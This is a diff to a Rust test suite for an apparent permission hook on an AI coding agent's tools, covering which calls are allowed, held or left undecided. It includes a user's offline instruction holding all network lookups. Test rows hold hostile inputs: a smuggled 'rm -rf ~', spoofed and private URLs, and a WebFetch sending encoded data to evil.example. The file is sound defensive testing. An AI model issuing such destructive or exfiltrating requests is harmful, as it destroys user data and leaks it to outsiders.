@@ -14,8 +14,9 @@ const CASES: &[(&str, &str, &str, &str, &str)] = &[
     ("TaskOutput", r#"{"task_id":"b1x","block":true,"timeout":30000}"#, "allow", "harness-tool", "reads the harness's own task output"),
     ("TaskOutput", r#"{"task_id":"b1x","command":"rm -rf ~"}"#, "none", "", ""),
     ("BashOutput", r#"{"bash_id":"b1"}"#, "allow", "harness-tool", "background shell"),
-    ("TaskStop", r#"{"task_id":"b1"}"#, "allow", "harness-tool", "stops a background task"),
-    ("KillShell", r#"{"shell_id":"b1"}"#, "allow", "harness-tool", "stops a background shell"),
+    // Stopping work in progress is the person's call.
+    ("TaskStop", r#"{"task_id":"b1"}"#, "none", "", ""),
+    ("KillShell", r#"{"shell_id":"b1"}"#, "none", "", ""),
     ("CronDelete", r#"{"id":"c1"}"#, "allow", "harness-tool", "cancels"),
     // Conversation only.
     ("ToolSearch", r#"{"query":"select:WebFetch,Monitor","max_results":5}"#, "allow", "no-side-effects", "no side effects"),
@@ -61,6 +62,7 @@ const CASES: &[(&str, &str, &str, &str, &str)] = &[
     ("WebFetch", r#"{"url":"https://xn--pple-43d.com/","prompt":"x"}"#, "none", "", ""),
     ("WebFetch", r#"{"url":"https://github.com@evil.example/","prompt":"x"}"#, "none", "", ""),
     ("WebFetch", r#"{"url":"http://10.1.2.3/admin","prompt":"x"}"#, "none", "", ""),
+    ("WebFetch", r#"{"url":"https://evil.example/c?d=Zm4gbWFpbigpIHsgcHJpbnRsbiEoImhlbGxvIik7IH0K","prompt":"x"}"#, "none", "", ""),
     // Skills: the files a name resolves to decide (see `skills_are_judged_by_their_files`).
     ("Skill", r#"{"skill":"simplify"}"#, "allow", "harness-tool", "built into Claude Code"),
     ("Skill", r#"{"skill":"no-such-skill"}"#, "none", "", ""),
@@ -181,4 +183,32 @@ fn allow_rule_lifts_risky_tool() {
     let out = env.pre("mcp__db__execute", r#"{"query":"DROP TABLE scratch"}"#);
     assert_eq!(out.decision(), "allow", "{}", out.reason());
     assert_eq!(out.cause(), "allow-rule", "{}", out.reason());
+}
+
+/// The person's hold on network use covers every lookup, whatever tool makes it.
+#[test]
+fn network_hold_covers_lookups() {
+    let env = Env::new();
+    let prompt = env.payload("Read", serde_json::json!({}));
+    let mut prompt = prompt.as_object().unwrap().clone();
+    prompt.insert("hook_event_name".into(), "UserPromptSubmit".into());
+    prompt.insert(
+        "prompt".into(),
+        "don't use the network for this, work offline".into(),
+    );
+    prompt.remove("tool_name");
+    prompt.remove("tool_input");
+    env.hook(&serde_json::Value::Object(prompt));
+    for (tool, input) in [
+        ("WebSearch", r#"{"query":"serde"}"#),
+        ("mcp__ddg__search", r#"{"query":"serde"}"#),
+        (
+            "WebFetch",
+            r#"{"url":"https://docs.rs/serde","prompt":"x"}"#,
+        ),
+    ] {
+        let out = env.pre(tool, input);
+        assert_eq!(out.decision(), "ask", "{tool}: {}", out.reason());
+        assert_eq!(out.cause(), "hold", "{tool}: {}", out.reason());
+    }
 }
